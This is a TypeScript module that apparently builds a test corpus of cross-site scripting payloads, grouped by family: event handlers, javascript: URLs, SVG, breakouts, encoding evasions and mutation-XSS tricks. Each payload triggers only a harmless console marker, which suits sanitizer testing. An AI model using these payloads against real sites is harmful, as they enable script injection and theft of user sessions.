/**
 * Hostile words, by the families that the published lists know (OWASP's filter evasion cheat sheet, PortSwigger's cheat sheet,
 * the HTML5 security cheat sheet): plain scripts, event handlers of elements that need nobody's hand, handlers that do, addresses
 * that are code, SVG and MathML, breaking out of attributes, texts and comments, spellings that fool a filter, HTML that a second
 * parse reads otherwise, templates, styles, frames, and what would run only by way of another language.
 *
 * Each says RAN where it runs. None asks a server of anybody else for anything that would matter.
 */
export const RAN = 'console.log(/xss-ran/)';
const CODE = [...RAN].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
const HEX = [...RAN].map((letter) => `&#x${letter.charCodeAt(0).toString(16).padStart(6, '0')}`).join('');
const BASE64 = Buffer.from(`<script>${RAN}</script>`).toString('base64');

const scripts = [
  `<script>${RAN}</script>`,
  `<SCRIPT>${RAN}</SCRIPT>`,
  `<script >${RAN}</script >`,
  `<script\n>${RAN}</script\n>`,
  `<script/x>${RAN}</script>`,
  `<script>${RAN}//`,
  `<script src="data:text/javascript,${RAN}"></script>`,
  `<script type=module>${RAN}</script>`,
  `<scr<script>ipt>${RAN}</scr</script>ipt>`,
  `<<script>${RAN};//<</script>`,
  `</script><script>${RAN}</script>`,
];

const handlers = [
  `<img src=x onerror=${RAN}>`,
  `<img src=x onerror="${RAN}">`,
  `<IMG SRC=x ONERROR='${RAN}'>`,
  `<img/src=x/onerror=${RAN}>`,
  `<img src onerror=${RAN}>`,
  `<img src=x:x onerror=${RAN}>`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${RAN}>`,
  `<img srcset=x onerror=${RAN}>`,
  `<image src=x onerror=${RAN}>`,
  `<input type=image src=x onerror=${RAN}>`,
  `<video src=x onerror=${RAN}></video>`,
  `<video><source onerror=${RAN}></video>`,
  `<audio src=x onerror=${RAN}></audio>`,
  `<body onload=${RAN}>`,
  `<body onpageshow=${RAN}>`,
  `<iframe onload=${RAN}></iframe>`,
  `<object data=x onerror=${RAN}></object>`,
  `<embed src=x onerror=${RAN}>`,
  `<link rel=stylesheet href=x onerror=${RAN}>`,
  `<style onload=${RAN}></style>`,
  `<input autofocus onfocus=${RAN}>`,
  `<select autofocus onfocus=${RAN}></select>`,
  `<textarea autofocus onfocus=${RAN}></textarea>`,
  `<details open ontoggle=${RAN}>x</details>`,
  `<marquee onstart=${RAN}>x</marquee>`,
  `<div style="animation:x 1s" onanimationstart=${RAN}></div><style>@keyframes x{}</style>`,
  `<xss contenteditable autofocus onfocus=${RAN} tabindex=1>x</xss>`,
];

const byHand = [
  `<a onclick=${RAN}>x</a>`,
  `<a onmouseover=${RAN}>x</a>`,
  `<b onpointerover=${RAN}>x</b>`,
  `<button onclick=${RAN}>x</button>`,
  `<button popovertarget=x>a</button><xss popover id=x onbeforetoggle=${RAN}>b</xss>`,
  `<div draggable=true ondragstart=${RAN}>x</div>`,
  `<form onsubmit=${RAN}><button>x</button></form>`,
  `<p oncut=${RAN} oncopy=${RAN} onpaste=${RAN} contenteditable>x</p>`,
  `<p onwheel=${RAN}>x</p>`,
  `<input onblur=${RAN} autofocus><input autofocus>`,
];

const addresses = [
  `<a href="javascript:${RAN}">x</a>`,
  `<a href="JaVaScRiPt:${RAN}">x</a>`,
  `<a href=" javascript:${RAN}">x</a>`,
  `<a href="java\tscript:${RAN}">x</a>`,
  `<a href="java&#10;script:${RAN}">x</a>`,
  `<a href="&#1;javascript:${RAN}">x</a>`,
  `<a href="javascript&colon;${RAN}">x</a>`,
  `<a href="&#106;avascript:${RAN}">x</a>`,
  `<a href="vbscript:${RAN}">x</a>`,
  `<a href="data:text/html;base64,${BASE64}">x</a>`,
  `<a href="javascript://%0a${RAN}">x</a>`,
  `<a href="blob:javascript:${RAN}">x</a>`,
  `<area href="javascript:${RAN}" shape=default>`,
  `<form action="javascript:${RAN}"><button>x</button></form>`,
  `<form><button formaction="javascript:${RAN}">x</button></form>`,
  `<isindex action="javascript:${RAN}" type=image>`,
  `<iframe src="javascript:${RAN}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RAN}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=parent.${RAN}>"></iframe>`,
  `<object data="javascript:${RAN}"></object>`,
  `<embed src="javascript:${RAN}">`,
  `<object data="data:text/html;base64,${BASE64}"></object>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RAN}">`,
  `<base href="javascript:${RAN}//"><a href=x>x</a>`,
  `<math href="javascript:${RAN}">x</math>`,
  `javascript:${RAN}`,
  `[x](javascript:${RAN})`,
  `![x](x"onerror="${RAN})`,
  `<javascript:${RAN}>`,
];

const drawings = [
  `<svg onload=${RAN}>`,
  `<svg/onload=${RAN}>`,
  `<svg><script>${RAN}</script></svg>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><script href="data:text/javascript,${RAN}"></script></svg>`,
  `<svg><a xlink:href="javascript:${RAN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RAN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RAN} attributename=x>`,
  `<svg><a><animate attributeName=href values="javascript:${RAN}"/><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${RAN}></foreignObject></svg>`,
  `<svg><image href=x onerror=${RAN}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RAN}'/></svg>#x"></svg>`,
  `<svg><style><img src=x onerror=${RAN}></style></svg>`,
  `<svg><discard onbegin=${RAN}>`,
];

const breakingOut = [
  `"><script>${RAN}</script>`,
  `'><script>${RAN}</script>`,
  `" onfocus=${RAN} autofocus x="`,
  `' onmouseover=${RAN} x='`,
  `" style="animation:x" onanimationstart=${RAN} x="`,
  `--><script>${RAN}</script><!--`,
  `--!><img src=x onerror=${RAN}>`,
  `]]><script>${RAN}</script>`,
  `</title><script>${RAN}</script>`,
  `</textarea><script>${RAN}</script>`,
  `</style><script>${RAN}</script>`,
  `</noscript><script>${RAN}</script>`,
  `</select><img src=x onerror=${RAN}>`,
  `</template><img src=x onerror=${RAN}>`,
  `</p></div></main><img src=x onerror=${RAN}>`,
  `<!-- /wp:paragraph --><script>${RAN}</script><!-- wp:paragraph -->`,
  `<!-- wp:html --><script>${RAN}</script><!-- /wp:html -->`,
  `<!-- wp:paragraph {"x":"--><img src=x onerror=${RAN}>"} -->x<!-- /wp:paragraph -->`,
  `[caption id="x" onclick=${RAN}]<img src=x onerror=${RAN}>[/caption]`,
  `';${RAN};//`,
  `";${RAN};//`,
  `\\";${RAN};//`,
  `\`;${RAN};//`,
];

const spellings = [
  `<img src=x onerror=${CODE}>`,
  `<img src=x onerror=${HEX}>`,
  `<img src=x onerror\n=\n${RAN}>`,
  `<img src=x onerror\x0c=${RAN}>`,
  `<img src=x onerror=eval(atob("${Buffer.from(RAN).toString('base64')}"))>`,
  `<img src=x onerror="window['con'+'sole'].log(/xss-ran/)">`,
  `<img src="x\`onerror=${RAN}\`">`,
  `<img """><script>${RAN}</script>">`,
  `<script>\\u0063onsole.log(/xss-ran/)</script>`,
  `&lt;script&gt;${RAN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RAN}&amp;lt;/script&amp;gt;`,
  `%3Cscript%3E${RAN}%3C/script%3E`,
  `\\x3cscript\\x3e${RAN}\\x3c/script\\x3e`,
  `\uff1cscript\uff1e${RAN}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${RAN}+ADw-/script+AD4-`,
  `<a href="x\u2028" onclick=${RAN}>x</a>`,
  `\u202e<script>${RAN}</script>`,
];

const readTwice = [
  `<noscript><p title="</noscript><img src=x onerror=${RAN}>">`,
  `<svg></p><style><a title="</style><img src=x onerror=${RAN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RAN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RAN}>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${RAN}>"></style></h1>`,
  `<title><p title="</title><img src=x onerror=${RAN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RAN}>">`,
  `<xmp><p title="</xmp><svg/onload=${RAN}>">`,
  `<listing>&lt;img src=x onerror=${RAN}&gt;</listing>`,
  `<template><s><template><s><img src=x onerror=${RAN}>x</s></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${RAN}></template></div>`,
  `<a id=x><a id=x name=attributes><img src=x onerror=${RAN}>`,
  `<img name=body><img src=x onerror=${RAN}>`,
  `<form name=querySelectorAll><input name=getAttributeNames><img src=x onerror=${RAN}></form>`,
  `<form><input name=attributes><input name=childNodes><img src=x onerror=${RAN}></form>`,
];

const otherLanguages = [
  `<p style="background:url(javascript:${RAN})">x</p>`,
  `<p style="width:expression(${RAN})">x</p>`,
  `<p style="-moz-binding:url(data:text/xml,x)">x</p>`,
  `<style>@import "javascript:${RAN}";</style>`,
  `<link rel=import href="data:text/html,<script>${RAN}</script>">`,
  `<?xml-stylesheet href="javascript:${RAN}"?>`,
  `{{constructor.constructor('${RAN}')()}}`,
  `\${${RAN}}`,
  `<%= ${RAN} %>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RAN}>"}}`,
  `=HYPERLINK("javascript:${RAN}","x")`,
];

export const payloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...byHand,
  ...addresses,
  ...drawings,
  ...breakingOut,
  ...spellings,
  ...readTwice,
  ...otherLanguages,
];
